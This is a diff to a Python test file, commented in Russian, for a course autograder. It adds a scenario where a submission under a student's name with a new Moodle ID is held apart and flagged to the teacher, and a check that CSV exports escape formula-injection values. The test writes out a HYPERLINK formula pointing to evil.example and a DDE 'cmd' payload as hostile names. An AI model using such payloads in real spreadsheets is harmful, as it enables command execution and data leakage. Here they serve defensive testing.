@@ -1,5 +1,6 @@
 """Семестр преподавателя по README: список группы, две лабораторные, пересдачи, исправленный тест,
-опоздание, упавший выпуск и выгрузка оценок — одна длинная история, шаг за шагом.
+опоздание, упавший выпуск, выгрузка оценок, чужое имя с новым номером LMS и враждебные имена в CSV —
+одна длинная история, шаг за шагом.
 
 Слушатели: Анна (папка ``anna`` на JupyterHub и «Анна Смирнова» в Moodle), Борис (сдаёт поздно),
 Вера (в списке группы, но ничего не сдаёт). Лабораторные: lab01 (папка) и lab02 (zip из Moodle).
@@ -151,3 +152,60 @@ def test_a_semester_with_two_labs_and_a_roster(tmp_path):
     assert moodle_out.returncode == 0
     assert (course / "autograde" / "exports" / "grades-moodle.csv").read_text(encoding="utf-8").startswith(
         "Адрес электронной почты,ID,")
+
+    # 9. захват личности: кто-то назвался в Moodle «Анна Смирнова» и сдал пустой lab02 под своим номером 555
+    lab02_csv = course / "autograde" / "grades" / f"{LAB2}.csv"
+    anna_before = read_csv(lab02_csv)["Анна Смирнова"]
+    hijack = tmp_path / "hijack.zip"
+    with zipfile.ZipFile(hijack, "w") as z:
+        z.writestr(zipfile.ZipInfo(f"Анна Смирнова_555_assignsubmission_file_/{LAB2}.ipynb",
+                                   date_time=(2024, 5, 1, 12, 0, 0)), ac.dumps(lab2.notebook({})))
+    result = cli("grade", LAB2, "--submissions", hijack, "--course", course, *LIMITS)
+    assert result.returncode == 0, result.stderr[-2000:]
+    rows2 = read_csv(lab02_csv)
+    assert rows2["Анна Смирнова"] == anna_before  # её работа и строка не тронуты
+    newcomer = rows2["Анна Смирнова_555"]
+    assert newcomer["score"] == "0" and "с номером участника LMS 555" in newcomer["message"]
+    assert "roster merge 'Анна Смирнова_555' anna" in newcomer["message"]
+    from autograde.course import safe_key
+
+    page = course / "autograde" / "feedback" / safe_key("Анна Смирнова_555") / LAB2 / f"{LAB2}.html"
+    text = page.read_text(encoding="utf-8")
+    assert "номером участника" not in text and "roster merge" not in text  # замечание — только преподавателю
+    # преподаватель выяснил, что это правда Анна (сменила устройство и сдала заново), и подтвердил
+    merged = cli("roster", "merge", "Анна Смирнова_555", "anna", "--course", course)
+    assert merged.returncode == 0, merged.stderr
+    assert cli("grade", LAB2, "--course", course, *LIMITS).returncode == 0
+    rows2 = read_csv(lab02_csv)
+    assert "Анна Смирнова_555" not in rows2 and rows2["Анна Смирнова"]["score"] == "0"  # новее — пустая версия
+
+    # 10. враждебные имена и письма: ни одна ячейка ни одного CSV не начинается с символа формулы
+    hyperlink = '=HYPERLINK("http:"&CHAR(47)&CHAR(47)&"evil.example"&CHAR(47)&A1,"open")'
+    calc = "=2+5+cmd|' /C calc'!A0"
+    with open(tmp_path / "group2.csv", "w", newline="", encoding="utf-8") as f:
+        f.write(ROSTER)
+        csv.writer(f, lineterminator="\n").writerows([["mallory", "@Мэллори", calc, ""],
+                                                      ["plus", "+Плюсов", "-minus@example.org", ""]])
+    assert cli("roster", "import", tmp_path / "group2.csv", "--course", course).returncode == 0
+    nb["cells"].pop(3)  # преподаватель убрал ячейку без END SOLUTION из шага 7
+    source.write_text(json.dumps(nb, ensure_ascii=False, indent=1), encoding="utf-8")
+    hub3 = tmp_path / "hub3"
+    for name in (hyperlink, "-5", "\tтаб"):
+        (hub3 / name).mkdir(parents=True)  # папка без работы: строка «не сдано», без проверки
+    for args in (("--submissions", hub3), ()):
+        result = cli("grade", LAB1 if args else LAB2, *args, "--course", course, *LIMITS)
+        assert result.returncode == 0, result.stderr[-2000:]
+    files = [course / "autograde" / "grades" / f"{LAB1}.csv", lab02_csv]
+    for style in ("wide", "moodle", "canvas"):
+        files.append(tmp_path / f"hostile-{style}.csv")
+        assert cli("export", "--format", style, "--out", files[-1], "--course", course).returncode == 0
+    cells = {}
+    for path in files:
+        with open(path, newline="", encoding="utf-8") as f:
+            cells[path.name] = [cell for row in csv.reader(f) for cell in row]
+    assert {name: [c for c in found if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+            for name, found in cells.items()} == {name: [] for name in cells}
+    assert {"'" + hyperlink, "'-5", "'\tтаб", "'@Мэллори"} <= set(cells[f"{LAB1}.csv"])
+    assert "'" + calc in cells["hostile-moodle.csv"] and "'" + calc in cells["hostile-wide.csv"]
+    assert "'+Плюсов" in cells["hostile-canvas.csv"] and "'-minus@example.org" in cells["hostile-canvas.csv"]
+    assert cells["hostile-wide.csv"][cells["hostile-wide.csv"].index("anna") + 3] == "33"  # баллы — числом
